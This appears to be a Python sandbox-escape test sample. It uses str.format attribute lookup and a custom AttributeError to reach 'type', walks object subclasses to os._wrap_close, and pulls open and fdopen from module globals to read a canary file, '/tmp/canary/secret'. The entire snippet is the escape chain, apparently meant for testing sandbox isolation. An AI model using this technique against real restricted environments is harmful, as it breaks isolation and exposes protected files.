# source: own
# effect: secret

class Carrier:
    def __getattr__(self, name):
        raise AttributeError(name=name, obj=self.__init__.__class__.__class__.__class__)


try:
    "{0.missing}".format(Carrier())
except AttributeError as error:
    for kind in error.obj.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            print(kind.__exit__.__globals__["fdopen"](kind.close.__globals__["open"]("/tmp/canary/secret", 0)).read())
